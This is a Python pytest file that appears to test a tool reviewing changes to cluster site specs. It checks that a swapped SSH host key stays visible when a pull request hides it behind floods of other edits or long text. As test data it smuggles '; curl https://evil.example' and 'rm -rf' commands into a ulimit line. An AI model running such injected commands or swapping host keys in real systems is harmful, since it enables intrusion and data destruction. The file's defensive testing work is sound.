"""A pull request cannot hide a change of trust behind many other changes, or behind a long text."""

import json
import random
from collections.abc import Callable
from pathlib import Path

import pytest
from history import commit, fingerprint, git, replace, spec
from markdown_it import MarkdownIt
from running import Gen

from generator.report.format import Format

pytestmark = pytest.mark.system

ATTACKERS_KEY = fingerprint("the attacker's")
LAST_SITE = "willow"


def write_site(name: str, hosts: int, port: int, key: str, partition: str = "short") -> None:
    """Write a spec with many hosts, of which the first has a host key."""
    lines = [f"site: {name}", f"title: {name.title()}"]
    lines += [f"sources: {{ page: {{ url: https://{name}.example/ }} }}", "hosts:"]
    for number in range(hosts):
        lines.append(f"  {name}{number}: {{ host: n{number}.{name}.example, port: {port} }}")
    lines += [
        "host_keys:",
        f"  all: {{ hosts: {name}0, source: page,"
        f" fingerprints: {{ ed25519: {fingerprint(key)} }} }}",
        "auth: { method: publickey }",
        "slurm:",
        "  partitions:",
    ]
    for number in range(60):
        lines.append(f"    {partition}{number}: {{ max_walltime: 1-00:00:00 }}")
    spec(name).write_text("\n".join(lines) + "\n")


def many_ports(sites: int) -> None:
    # 27 hosts: a spec has a limit of keys.
    for number in range(sites):
        write_site(f"alder{number}", 27, 2200, "alder")
    write_site(LAST_SITE, 1, 22, "willow")
    commit("More sites")
    git("switch", "--quiet", "--create", "proposal")
    for number in range(sites):
        write_site(f"alder{number}", 27, 2201, "alder")
    write_site(LAST_SITE, 1, 22, "the attacker's")


def many_partitions(sites: int) -> None:
    for number in range(sites):
        write_site(f"alder{number}", 1, 22, "alder")
    write_site(LAST_SITE, 1, 22, "willow")
    commit("More sites")
    git("switch", "--quiet", "--create", "proposal")
    for number in range(sites):
        write_site(f"alder{number}", 1, 22, "alder", partition="long")
    write_site(LAST_SITE, 1, 22, "the attacker's", partition="long")


def many_new_sites(sites: int) -> None:
    write_site(LAST_SITE, 1, 22, "willow")
    commit("One more site")
    git("switch", "--quiet", "--create", "proposal")
    for number in range(sites):
        write_site(f"birch{number}", 3, 22, "birch")
    write_site(LAST_SITE, 1, 22, "the attacker's")


# The small floods overflow the annotations of GitHub already, and the large ones its comments.
FLOODS = [
    pytest.param(many_ports, 2, id="54 ports of other sites"),
    pytest.param(many_ports, 37, id="999 ports of other sites", marks=pytest.mark.long),
    pytest.param(many_partitions, 1, id="120 partitions"),
    pytest.param(many_new_sites, 12, id="12 new sites"),
    pytest.param(many_new_sites, 60, id="60 new sites", marks=pytest.mark.long),
]


@pytest.mark.parametrize(("flood", "sites"), FLOODS)
def test_a_changed_host_key_is_the_first_finding_in_every_format(
    reading_gen: Gen, flood: Callable[[int], None], sites: int
) -> None:
    flood(sites)
    first = json.loads(reading_gen("review", "main", "--format", "json").out)["findings"][0]
    assert (first["rule"], first["site"]) == ("trust", LAST_SITE)
    detail = f"added ed25519 {ATTACKERS_KEY}"
    assert first["details"][0] == detail
    github = reading_gen("review", "main", "--format", "github").out.splitlines()
    assert detail in github[0]
    sarif = json.loads(reading_gen("review", "main", "--format", "sarif").out)
    assert detail in sarif["runs"][0]["results"][0]["message"]["text"]
    assert detail in reading_gen("review", "main", "--format", "rdjsonl").out.splitlines()[0]
    assert detail in reading_gen("review", "main").out.splitlines()[1]
    markdown = reading_gen("review", "main", "--format", "markdown").out
    assert len(markdown) < 65_536
    items = MarkdownIt("commonmark").parse(markdown)
    first_item = [token.content for token in items if token.type == "inline"][2:4]
    assert LAST_SITE in first_item[0]
    assert first_item[1] == f"`{detail}`"


@pytest.mark.parametrize(
    "sites", [pytest.param(2, id="few"), pytest.param(37, id="many", marks=pytest.mark.long)]
)
def test_the_tenth_annotation_counts_the_rest_and_none_is_lost(
    reading_gen: Gen, sites: int
) -> None:
    many_ports(sites)
    findings = 1 + 27 * sites
    lines = reading_gen("review", "main", "--format", "github").out.splitlines()
    errors = [line for line in lines if line.startswith("::error")]
    assert errors[9] == (
        f"::error title=gen%3A {findings - 9} more::{findings - 9} more findings of this level are"
        " not shown here; the log of this step has all"
    )
    assert len(errors) == 1 + findings


PREFIX = "x" * 300


def test_a_change_behind_a_long_prefix_is_shown_in_every_format(reading_gen: Gen) -> None:
    replace(spec("aster"), "ulimit -n 65536", f"ulimit -n 65536; true {PREFIX}")
    commit("A long command")
    git("switch", "--quiet", "--create", "proposal")
    replace(spec("aster"), PREFIX, f"{PREFIX}; curl https://evil.example")
    for form in Format:
        output = reading_gen("review", "main", "--format", form).out
        # JSON escapes the arrow.
        arrow = "\\u2192" if "\\u2192" in output else "→"
        difference = f"from character 323: nothing {arrow} ; curl https://evil.example"
        assert difference in output, form
        # Both values are there as a whole.
        assert output.count(PREFIX) >= 2


def test_a_value_is_cut_only_with_a_mark_and_both_ends(reading_gen: Gen) -> None:
    long_text = "y" * 900
    replace(spec("aster"), "ulimit -n 65536", f"rm -rf a; true {long_text}; rm -rf b")
    output = reading_gen("review", "main", "--format", "markdown").out
    item = output.partition("<details>")[0]
    assert "rm -rf a" in item
    assert "characters left out" in item
    assert "rm -rf b" in item
    assert long_text in reading_gen("review", "main").out


def test_only_the_changed_parts_of_a_list_are_shown(reading_gen: Gen) -> None:
    replace(spec("aster"), '"login-{n}.aster.example"', '"login{n}.aster.example"')
    [finding] = json.loads(reading_gen("review", "main", "--format", "json").out)["findings"]
    assert all(detail.startswith(("added ", "removed ")) for detail in finding["details"])


def test_removed_keys_are_reported_as_no_longer_pinned(reading_gen: Gen) -> None:
    write_site(LAST_SITE, 1, 22, "willow")
    commit("One more site")
    git("switch", "--quiet", "--create", "proposal")
    lines = spec(LAST_SITE).read_text().splitlines()
    kept = [line for line in lines if not line.startswith(("host_keys:", "  all:"))]
    spec(LAST_SITE).write_text("\n".join(kept) + "\n")
    output = reading_gen("review", "main").out
    assert f"host keys of {LAST_SITE}0 are no longer pinned" in output


def random_lines(seed: int, number: int) -> str:
    numbers = random.Random(seed)  # noqa: S311 - no secret
    return "".join(f"Host h{numbers.randint(0, 500)}\n" for _ in range(number))


def details_of_more_lines(gen: Gen, before: str, after: str) -> list[str]:
    """Return the details of the only finding, a change of a file beside ours."""
    path = Path("ssh/more.conf")
    path.write_text(before)
    commit("Lines")
    git("switch", "--quiet", "--create", "proposal")
    path.write_text(after)
    [finding] = json.loads(gen("review", "main", "--format", "json").out)["findings"]
    assert finding["rule"] == "trust"
    return list(finding["details"])


def test_many_changed_lines_hide_neither_the_first_nor_the_last(reading_gen: Gen) -> None:
    many = "".join(f"Host h{number}\n" for number in range(300))
    after = f"# none\nProxyCommand first\n{many}ProxyCommand last\n"
    details = details_of_more_lines(reading_gen, "# none\n", after)
    assert (len(details), details[0], details[-1]) == (
        101,
        "added ProxyCommand first",
        "added ProxyCommand last",
    )
    assert details[50] == "… 202 more lines; git diff shows them"


@pytest.mark.parametrize(
    ("before", "after", "details"),
    [
        pytest.param("a\n", "a\nb\n", ["added b"], id="a line at the end"),
        pytest.param("a\n", "a", ["another end of the last line"], id="no line feed"),
        pytest.param("a\n", "", ["removed a"], id="nothing"),
        pytest.param("a\n", "a\n\n", ["added "], id="an empty line"),
    ],
)
def test_the_details_are_the_lines_that_changed(
    reading_gen: Gen, before: str, after: str, details: list[str]
) -> None:
    assert details_of_more_lines(reading_gen, before, after) == details


def test_the_time_for_a_large_file_grows_with_its_lines(reading_gen: Gen) -> None:
    # difflib would take minutes, and the limit of a test would end this one.
    after = f"ProxyCommand first\n{random_lines(2, 50_000)}"
    details = details_of_more_lines(reading_gen, random_lines(1, 50_000), after)
    assert details[0] == "added ProxyCommand first"
    assert len(details) <= 202


def test_a_large_file_in_another_order_is_reported_as_reordered(reading_gen: Gen) -> None:
    lines = random_lines(1, 5_000)
    backwards = "\n".join(lines.splitlines()[::-1]) + "\n"
    details = details_of_more_lines(reading_gen, lines, backwards)
    # ssh takes the first of two values, so the order has a meaning.
    assert details == ["the same lines in another order"]
